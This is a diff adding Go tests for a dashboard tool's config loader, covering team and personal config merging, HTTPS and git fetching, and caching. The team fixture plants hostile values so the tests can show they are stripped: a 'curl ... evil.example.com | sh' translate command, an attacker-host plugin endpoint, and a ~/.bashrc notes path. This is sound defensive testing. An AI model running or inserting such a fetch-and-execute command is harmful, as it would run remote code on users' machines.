@@ -0,0 +1,219 @@
+package main
+
+import (
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+// teamBaseConfig is a team config with widgets, a saved search and an attention rule, and
+// settings only a personal config can make, among them endpoints and credentials
+const teamBaseConfig = `version: 1
+ui:
+  widgets: [jira, prs, pagerduty]
+widgets:
+  jira:
+    ttl: 60s
+    base_url: "https://acme.atlassian.net"
+    api_token: "team-token"
+  news:
+    language:
+      keep: [en]
+      translate: "curl -s https://evil.example.com/x | sh"
+  notes:
+    path: ~/.bashrc
+searches:
+  sprint:
+    jql: "sprint in openSprints()"
+attention:
+  rules:
+    - widget: pagerduty
+      level: notify
+plugins:
+  github-prs:
+    api_url: "https://evil.example.com"
+    repos: [acme/api]
+team:
+  config: "https://example.com/never-fetched.yaml"
+telemetry: true
+`
+
+func writeTestFile(t *testing.T, path, data string) {
+	t.Helper()
+	if err := os.WriteFile(path, []byte(data), 0644); err != nil {
+		t.Fatal(err)
+	}
+}
+
+func TestLoadConfigTeamFile(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	dir := t.TempDir()
+	writeTestFile(t, filepath.Join(dir, "team.yaml"), teamBaseConfig)
+	path := filepath.Join(dir, "config.yaml")
+	writeTestFile(t, path, `team:
+  config: team.yaml
+ui:
+  widgets: [crypto, prs]
+widgets:
+  jira:
+    email: "me@acme.com"
+searches:
+  mine:
+    jql: "assignee = currentUser()"
+attention:
+  rules:
+    - widget: pagerduty
+      match: staging
+      level: silent
+`)
+
+	cfg, err := LoadConfig(path)
+	if err != nil {
+		t.Fatalf("LoadConfig failed: %v", err)
+	}
+	if want := []string{"jira", "prs", "pagerduty", "crypto"}; !reflect.DeepEqual(cfg.UI.Widgets, want) {
+		t.Errorf("Expected personal tiles after the team's, got %v", cfg.UI.Widgets)
+	}
+	jira := cfg.Widgets.Jira
+	if jira.TTL != "60s" || jira.Email != "me@acme.com" {
+		t.Errorf("Expected the Jira settings merged key by key, got %+v", jira)
+	}
+	// The team cannot choose where personal tokens are sent, nor hand out its own
+	if jira.BaseURL != "" || jira.APIToken != "" {
+		t.Errorf("Expected the team's Jira site and token dropped, got %+v", jira)
+	}
+	if prs := cfg.Plugins["github-prs"]; prs["api_url"] != nil || prs["repos"] == nil {
+		t.Errorf("Expected the team's plugin endpoint dropped and its repos kept, got %v", prs)
+	}
+	if len(cfg.Searches) != 2 {
+		t.Errorf("Expected team and personal searches, got %v", cfg.Searches)
+	}
+	if rules := cfg.Attention.Rules; len(rules) != 2 || rules[0].Match != "staging" {
+		t.Errorf("Expected personal attention rules first, got %+v", rules)
+	}
+	if cfg.Telemetry {
+		t.Error("Expected a team config not to opt anyone in to telemetry")
+	}
+	if language := cfg.Widgets.News.Language; language.Translate != "" || len(language.Keep) != 1 || cfg.Widgets.Notes.Path != "" {
+		t.Errorf("Expected the team's translate command and notes file dropped and its languages kept, got %+v and %q", language, cfg.Widgets.Notes.Path)
+	}
+	if cfg.Team.Config != "team.yaml" {
+		t.Errorf("Expected the personal team section to be kept, got '%s'", cfg.Team.Config)
+	}
+
+	// A broken team config is reported as the team's
+	writeTestFile(t, filepath.Join(dir, "team.yaml"), "widgets:\n  jira:\n    ttl: soon\n")
+	if _, err := LoadConfig(path); err == nil {
+		t.Error("Expected an invalid team config to fail")
+	}
+}
+
+func TestLoadConfigTeamURLCache(t *testing.T) {
+	t.Setenv("HOME", t.TempDir())
+	available := true
+	server := httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if !available {
+			w.WriteHeader(http.StatusServiceUnavailable)
+			return
+		}
+		fmt.Fprint(w, teamBaseConfig)
+	}))
+	defer server.Close()
+	defer func(client *http.Client) { teamConfigClient = client }(teamConfigClient)
+	teamConfigClient = server.Client()
+
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	writeTestFile(t, path, "team:\n  config: "+server.URL+"/goday.yaml\n")
+
+	cfg, err := LoadConfig(path)
+	if err != nil || cfg.Searches["sprint"].JQL == "" {
+		t.Fatalf("Expected the downloaded team config, got %v", err)
+	}
+
+	// Offline, the last download is used
+	available = false
+	cfg, err = LoadConfig(path)
+	if err != nil || len(cfg.UI.Widgets) != 3 {
+		t.Errorf("Expected the cached team config, got %v", err)
+	}
+
+	writeTestFile(t, path, "team:\n  config: "+server.URL+"/other.yaml\n")
+	if _, err := LoadConfig(path); err == nil {
+		t.Error("Expected an unreachable team config without a cached copy to fail")
+	}
+
+	// Plain http is refused
+	available = true
+	writeTestFile(t, path, "team:\n  config: "+strings.Replace(server.URL, "https://", "http://", 1)+"/goday.yaml\n")
+	if _, err := LoadConfig(path); err == nil || !strings.Contains(err.Error(), "https") {
+		t.Errorf("Expected a team config over http to be refused, got %v", err)
+	}
+}
+
+func TestLoadConfigTeamGit(t *testing.T) {
+	if _, err := exec.LookPath("git"); err != nil {
+		t.Skip("git not installed")
+	}
+	t.Setenv("HOME", t.TempDir())
+	t.Setenv("GIT_AUTHOR_NAME", "Test")
+	t.Setenv("GIT_AUTHOR_EMAIL", "test@example.com")
+	t.Setenv("GIT_COMMITTER_NAME", "Test")
+	t.Setenv("GIT_COMMITTER_EMAIL", "test@example.com")
+
+	repo := filepath.Join(t.TempDir(), "team.git")
+	if err := os.MkdirAll(filepath.Join(repo, "dashboards"), 0755); err != nil {
+		t.Fatal(err)
+	}
+	writeTestFile(t, filepath.Join(repo, "dashboards", "platform.yaml"), teamBaseConfig)
+	for _, args := range [][]string{{"init", "--quiet"}, {"add", "."}, {"commit", "--quiet", "-m", "Team dashboard"}} {
+		if err := runGit(repo, args...); err != nil {
+			t.Fatalf("git %v: %v", args, err)
+		}
+	}
+
+	path := filepath.Join(t.TempDir(), "config.yaml")
+	writeTestFile(t, path, "team:\n  config: "+repo+"\n  file: dashboards/platform.yaml\n")
+	cfg, err := LoadConfig(path)
+	if err != nil || cfg.Searches["sprint"].JQL == "" {
+		t.Fatalf("Expected the team config from the repository, got %v", err)
+	}
+
+	// Later starts pull the team's changes
+	writeTestFile(t, filepath.Join(repo, "dashboards", "platform.yaml"), "ui:\n  widgets: [calendar]\n")
+	if err := runGit(repo, "commit", "--quiet", "-am", "Calendar only"); err != nil {
+		t.Fatal(err)
+	}
+	if cfg, err = LoadConfig(path); err != nil || !reflect.DeepEqual(cfg.UI.Widgets, []string{"calendar"}) {
+		t.Errorf("Expected the updated team config, got %v, %v", cfg, err)
+	}
+}
+
+func TestOverlayConfig(t *testing.T) {
+	base := map[string]interface{}{
+		"ui":      map[string]interface{}{"widgets": []interface{}{"jira", "prs"}, "tile_height": 8},
+		"plugins": map[string]interface{}{"github-prs": map[string]interface{}{"repos": []interface{}{"acme/api"}}},
+	}
+	personal := map[string]interface{}{
+		"ui":      map[string]interface{}{"widgets": []interface{}{"prs", "todos"}, "layout": nil},
+		"plugins": map[string]interface{}{"github-prs": map[string]interface{}{"repos": []interface{}{"me/dotfiles"}}},
+	}
+
+	merged := overlayConfig(base, personal, "").(map[string]interface{})
+	ui := merged["ui"].(map[string]interface{})
+	if !reflect.DeepEqual(ui["widgets"], []interface{}{"jira", "prs", "todos"}) || ui["tile_height"] != 8 {
+		t.Errorf("Expected the team UI with the personal tile added, got %v", ui)
+	}
+	repos := merged["plugins"].(map[string]interface{})["github-prs"].(map[string]interface{})["repos"]
+	if !reflect.DeepEqual(repos, []interface{}{"me/dotfiles"}) {
+		t.Errorf("Expected other personal lists to replace the team's, got %v", repos)
+	}
+	if len(base["ui"].(map[string]interface{})["widgets"].([]interface{})) != 2 {
+		t.Error("Expected the team config to be left unchanged")
+	}
+}